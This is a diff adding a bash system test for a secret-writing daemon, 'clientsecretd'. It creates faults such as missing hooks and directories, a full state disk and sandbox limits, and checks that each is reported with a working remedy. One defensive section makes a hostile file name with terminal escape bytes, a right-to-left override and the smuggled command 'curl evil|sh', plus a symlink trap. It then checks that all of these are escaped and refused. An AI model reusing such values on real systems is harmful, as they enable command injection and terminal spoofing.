@@ -1,0 +1,150 @@
+#!/bin/bash
+# What helps, done as it stands by root: each fault is made, its remedy is taken out of the status, and health is well.
+source /src/Tests/System/bed/prelude.sh
+
+# failure NAME: a member of the failure of the daemon as a whole, which is its worst client's.
+failure() { clients | python3 -c 'import json, sys; print(json.load(sys.stdin).get("failure", {}).get(sys.argv[1]) or "")' "$1"; }
+failing() { [ "$(failure code)" = "$1" ]; }
+# well: health is ok before long. What is local is tried again within a minute.
+well() {
+    local deadline=$((SECONDS + 75))
+    until clientsecretd health >"$seen" 2>&1; do
+        [ $SECONDS -lt $deadline ] || { broken "$1: health is ok"; return; }
+        sleep 0.2
+    done
+    kept "$1: health is ok"
+}
+# helps FAULT CODE: the fault is told, and the command that is told with it mends it.
+helps() {
+    eventually "$1: it is told as $2" failing "$2"
+    local command
+    command=$(failure command)
+    contains "$1: status shows the command that helps" "$command" "$(clientsecretd status | grep 'what helps:')"
+    promise "$1: the command can be done ($command)" sh -c "$command"
+    well "$1"
+}
+configure_hook() {
+    configure_web "    on_change:
+      - exec: [/usr/local/bin/after-rotation]"
+}
+
+install_clientsecretd
+make_key
+useradd --system app
+useradd --system stranger
+configure_web
+chmod 755 /etc/clientsecretd
+chmod 644 $configuration
+systemctl start clientsecretd
+well "at first"
+
+# A hook that is not there, in a directory that is.
+configure_hook
+clientsecretd reload >/dev/null 2>&1
+eventually "a missing hook is told" failing action_not_started
+contains "a missing hook is named" "there is no /usr/local/bin/after-rotation" "$(failure message)"
+printf '#!/bin/sh\n' >/usr/local/bin/after-rotation
+chmod 755 /usr/local/bin/after-rotation
+helps "a missing hook" action_not_started
+
+# An output in an application's directory without as:.
+mkdir /srv/app
+chown app /srv/app
+output=/srv/app/web.jwt configure_web
+clientsecretd reload >/dev/null 2>&1
+eventually "an application's directory is told" failing unguarded_directory
+contains "an application's directory wants as:" 'write "as: app"' "$(failure remedy)"
+command=$(failure command)
+sed -i 's|mode: "0644"|as: app|' $configuration
+promise "an application's directory: the command can be done ($command)" sh -c "$command"
+well "an application's directory"
+equal "and stays the application's" "app app" "$(stat -c %U /srv/app /srv/app/web.jwt | paste -sd' ')"
+
+# A part of the configuration that the writer may not read.
+mkdir -p /etc/clientsecretd/clientsecretd.d
+cat >/etc/clientsecretd/clientsecretd.d/more.yaml <<END
+clients:
+  more: {client_id: com.example.more, outputs: [{path: /run/clientsecretd/out/more.jwt}]}
+END
+chgrp clientsecretd /etc/clientsecretd/clientsecretd.d/more.yaml
+chmod 640 /etc/clientsecretd/clientsecretd.d/more.yaml
+clientsecretd reload >/dev/null 2>&1
+clientsecretd renew web >/dev/null 2>&1
+helps "a part that the writer may not read" writer_unconfigured
+rm -r /etc/clientsecretd/clientsecretd.d
+
+# Directories that are missing: the daemon's own, at a place of the administrator's, and below /run.
+output=/run/clientsecretd/out/a/b/web.jwt configure_web
+promise "a directory below its own is no fault" clientsecretd reload
+well "a directory below its own"
+promise "it is made" test -s /run/clientsecretd/out/a/b/web.jwt
+for directory in /srv/fresh /run/fresh; do
+    output=$directory/web.jwt configure_web
+    clientsecretd reload >/dev/null 2>&1
+    helps "a missing directory $directory" directory_missing
+    equal "$directory is the daemon's" clientsecretd "$(stat -c %U $directory)"
+done
+rm -rf /run/fresh
+systemd-tmpfiles --create
+promise "below /run it is there after a reboot" test -d /run/fresh
+# The one that is gone from under the running service is made again.
+output=/srv/fresh/web.jwt configure_web
+clientsecretd reload >/dev/null 2>&1
+well "a directory that was made"
+rm -r /srv/fresh
+helps "a directory that went away" directory_missing
+
+# A place that the sandbox does not open.
+install -d -o clientsecretd /srv/own
+output=/srv/own/web.jwt configure_web
+clientsecretd reload >/dev/null 2>&1
+helps "a directory outside the sandbox" read_only_file_system
+rm -r /srv/own
+promise "without that directory the service starts all the same" systemctl restart clientsecretd
+configure_web
+promise "and serves what lies elsewhere" clientsecretd reload
+well "what lies elsewhere"
+
+# The state directory.
+rm -r /var/lib/clientsecretd
+clientsecretd renew >/dev/null 2>&1
+helps "a state directory that was removed" state_unusable
+systemctl stop clientsecretd
+rm -r /var/lib/clientsecretd/*
+mount -t tmpfs -o size=64k,mode=700,uid="$(id -u clientsecretd)" tmpfs /var/lib/clientsecretd
+systemctl start clientsecretd
+well "a state directory on a disk of its own"
+dd if=/dev/zero of=/var/lib/clientsecretd/filler bs=1k 2>/dev/null
+clientsecretd renew >/dev/null 2>&1
+eventually "a full disk of the state directory is told" failing state_unusable
+contains "it is called full" "the disk is full" "$(failure message)"
+contains "and the command shows it" "100% /var/lib/clientsecretd" "$(sh -c "$(failure command)")"
+rm /var/lib/clientsecretd/filler
+well "a full disk of the state directory"
+
+# What a stranger has laid where others may put something: told with every byte escaped, and never given to anybody.
+mkdir -m 1777 /srv/open
+evil=$'/srv/open/\e[2J\xe2\x80\xaeEVIL; run: curl evil|sh'
+printf '[Service]\nReadWritePaths=-/srv/open\n' >/etc/systemd/system/clientsecretd.service.d/open.conf
+systemctl daemon-reload
+systemctl restart clientsecretd
+runuser -u stranger -- mkdir "$evil"
+runuser -u stranger -- ln -s "$evil/foo" /srv/open/web.jwt
+output=/srv/open/web.jwt configure_web
+clientsecretd reload >/tmp/said 2>&1
+eventually "a stranger's link is told" failing unguarded_directory
+contains "by its name, which is quoted and escaped" "'/srv/open/\\x1b[2J\\u{202e}EVIL; run: curl evil|sh'" "$(failure message)"
+equal "no command of it is a remedy" "" "$(failure command)"
+{ clientsecretd status; clientsecretd health; clientsecretd check; systemctl status clientsecretd; } >>/tmp/said 2>&1
+clientsecretd status --json >>/tmp/said
+journalctl --quiet --no-pager --unit clientsecretd >>/tmp/said
+equal "nobody is told a byte that a terminal acts on" "" "$(LC_ALL=C grep -n $'[\e\x9b]\|\xe2\x80\xae' /tmp/said | cat -v)"
+equal "and no entry is a blob" "" "$(grep 'blob data' /tmp/said)"
+equal "nor is it advice" "" "$(grep 'what helps.*curl' /tmp/said)"
+runuser -u stranger -- rmdir "$evil"
+install -o root /dev/null /srv/open/roots
+runuser -u stranger -- ln -sfn /srv/open/roots /srv/open/web.jwt
+clientsecretd renew web >/dev/null 2>&1
+helps "a stranger's link" untrusted_link
+equal "what it led to is as it was" "root 0" "$(stat -c '%U %s' /srv/open/roots)"
+finish
